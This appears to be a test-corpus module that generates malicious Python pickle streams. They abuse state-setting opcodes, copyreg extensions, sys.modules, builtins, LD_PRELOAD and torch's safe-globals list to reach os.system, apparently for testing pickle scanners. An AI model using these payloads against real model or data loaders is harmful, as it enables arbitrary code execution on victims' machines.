"""State as the weapon: BUILD, APPENDS, ADDITEMS and SETITEMS on objects, functions, modules and registries."""

from __future__ import annotations

from itertools import chain
from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, SOURCE, call, pushed
from corpora.case import Case, Technique
from telamon.kits.attacks.pickles import BUILD, MARK, PROTO, REDUCE, STOP, Program

if TYPE_CHECKING:
    from collections.abc import Iterator

SYSTEM: Final = b"cos\nsystem\n"
ARGUMENT: Final = pushed(COMMAND)
NAMESPACE: Final = b"cargparse\nNamespace\n)\x81"
SIMPLE: Final = b"ctypes\nSimpleNamespace\n)R"
EXECUTE: Final = Program(protocol=4).global_("os", "system")


def cases() -> Iterator[Case]:
    """Yield each construction."""
    for name, body in chain(_instances(), _partials(), _shared_objects(), _extensions(), _reaching_classes()):
        yield Case(name=name, technique=Technique.STATE, data=PROTO + b"\x04" + body + STOP)


def _instances() -> Iterator[tuple[str, bytes]]:
    """State of an instance that gives it the method which a later opcode calls."""
    # BUILD looks `__setstate__` up on the instance, so that a first BUILD can put there what a second one calls.
    yield "setstate-in-the-instance", NAMESPACE + pushed({"__setstate__": EXECUTE}) + BUILD + ARGUMENT + BUILD
    yield "setstate-in-a-simple-namespace", SIMPLE + pushed({"__setstate__": EXECUTE}) + BUILD + ARGUMENT + BUILD
    yield "setstate-by-slot-state", NAMESPACE + b"N}(" + pushed("__setstate__") + SYSTEM + b"u\x86b" + ARGUMENT + BUILD
    # APPENDS calls `extend`, or `append`, of what is no list; ADDITEMS calls `add` of what is no set.
    yield "append-in-the-instance", NAMESPACE + pushed({"append": EXECUTE}) + BUILD + ARGUMENT + b"a"
    run = Program(protocol=4).global_("subprocess", "call")
    items = MARK + pushed("sh") + pushed("-c") + ARGUMENT + b"e"
    yield "extend-in-the-instance", NAMESPACE + pushed({"extend": run}) + BUILD + items
    yield "add-in-the-instance", NAMESPACE + pushed({"add": EXECUTE}) + BUILD + MARK + ARGUMENT + b"\x90"


def _partials() -> Iterator[tuple[str, bytes]]:
    """State of `functools.partial`, which is its function and arguments."""
    yield (
        "state-of-a-partial",
        (
            b"cfunctools\npartial\ncbuiltins\nprint\n\x85R"
            + MARK
            + SYSTEM
            + MARK
            + ARGUMENT
            + b"t}Nt"
            + BUILD
            + b")"
            + REDUCE
        ),
    )
    yield (
        "state-of-a-partial-made-by-newobj",
        (
            b"cfunctools\npartial\ncbuiltins\nprint\n\x85\x81"
            + MARK
            + SYSTEM
            + MARK
            + ARGUMENT
            + b"t}Nt"
            + BUILD
            + b")"
            + REDUCE
        ),
    )


def _shared_objects() -> Iterator[tuple[str, bytes]]:
    """Attributes and items of functions, classes, modules and registries, which stay after the load."""
    code = call("builtins", "compile", SOURCE, "", "exec")
    yield (
        "code-of-a-function",
        (b"ctextwrap\ndedent\nN" + pushed({"__code__": code}) + b"\x86" + BUILD + b"0ctextwrap\ndedent\n)" + REDUCE),
    )
    yield "attributes-of-a-class", b"ccollections\nCounter\n" + b"N" + pushed({"update": EXECUTE}) + b"\x86b"
    yield "attributes-of-a-module", b"cshutil\nos\n" + pushed({"getcwd": EXECUTE}) + BUILD
    yield (
        "attributes-of-an-imported-module",
        call("builtins", "__import__", "os").body + pushed({"getcwd": EXECUTE}) + BUILD,
    )
    yield "attributes-of-main", b"c__main__\n__dict__\n" + pushed("x") + SYSTEM + b"s"
    yield "module-table", b"csys\nmodules\n" + pushed("json") + SYSTEM + b"s"
    table = b"csys\nmodules\n" + pushed("json")
    yield (
        "module-table-then-look-up",
        (
            table
            + b"csys\nmodules\ns0"
            + table
            + b"cjson\nget\n"
            + pushed("os")
            + b"\x85Rs0cjson\nsystem\n"
            + ARGUMENT
            + b"\x85R"
        ),
    )
    yield "environment", b"cos\nenviron\n" + pushed("LD_PRELOAD") + pushed("attacker.so") + b"s"
    yield "import-path", b"csys\npath\n" + pushed("attacker") + b"a"
    yield "import-hooks", b"csys\npath_hooks\n" + SYSTEM + b"a"
    yield "builtins-dictionary", b"cbuiltins\n__dict__\n" + pushed("len") + SYSTEM + b"s"
    yield "warnings-hook", b"cwarnings\n__dict__\n" + pushed("showwarning") + SYSTEM + b"s"
    yield "copyreg-dispatch-table", b"ccopyreg\ndispatch_table\n" + b"cbuiltins\nint\n" + SYSTEM + b"s"
    yield "joblib-dispatch", b"cjoblib.numpy_pickle\nNumpyUnpickler.dispatch\nK\x2e" + SYSTEM + b"s"
    yield (
        "allow-list-of-torch",
        (b"ctorch._weights_only_unpickler\n_marked_safe_globals_set\n" + MARK + SYSTEM + b"\x90"),
    )


def _extensions() -> Iterator[tuple[str, bytes]]:
    """The extension registry, which turns numbers into names."""
    yield (
        "extension-registered-by-call",
        call("copyreg", "add_extension", "os", "system", 7).body + b"0\x82\x07" + ARGUMENT + b"\x85R",
    )
    yield (
        "extension-registered-by-item",
        (b"ccopyreg\n_inverted_registry\n" + b"K\x07" + pushed(("os", "system")) + b"s0\x82\x07" + ARGUMENT + b"\x85R"),
    )
    yield (
        "extension-cached-by-item",
        b"ccopyreg\n_extension_cache\nK\x07" + SYSTEM + b"s0\x82\x07" + ARGUMENT + b"\x85R",
    )
    yield "extension-two-bytes-called", b"\x83\x07\x01" + ARGUMENT + b"\x85R"
    yield "extension-four-bytes-called", b"\x84\x07\x01\x00\x00" + ARGUMENT + b"\x85R"


def _reaching_classes() -> Iterator[tuple[str, bytes]]:
    """Classes whose `__setstate__` or constructor reaches outside."""
    yield "semaphore-state", b"cmultiprocessing.synchronize\nSemLock\n)\x81" + pushed((0, 1, 1, "/telamon")) + BUILD
    yield "proxy-connects", call("multiprocessing.managers", "RebuildProxy", None, None, None, {}).body
    yield "duplicated-file-descriptor", call("multiprocessing.connection", "rebuild_connection", None, True, True).body
    yield "socket-rebuilt", call("multiprocessing.reduction", "_rebuild_socket", None, 2, 1, 0).body
    yield "shared-memory-opened", call("multiprocessing.shared_memory", "SharedMemory", "telamon").body
    yield (
        "torch-storage-from-shared-file",
        call("torch.multiprocessing.reductions", "rebuild_storage_filename", None, b"m", b"h", 8).body,
    )
    yield (
        "unknown-class-with-state-and-call",
        (b"cattacker.models\nNet\n)\x81}" + BUILD + b"cattacker.models\nrun\n)" + REDUCE),
    )
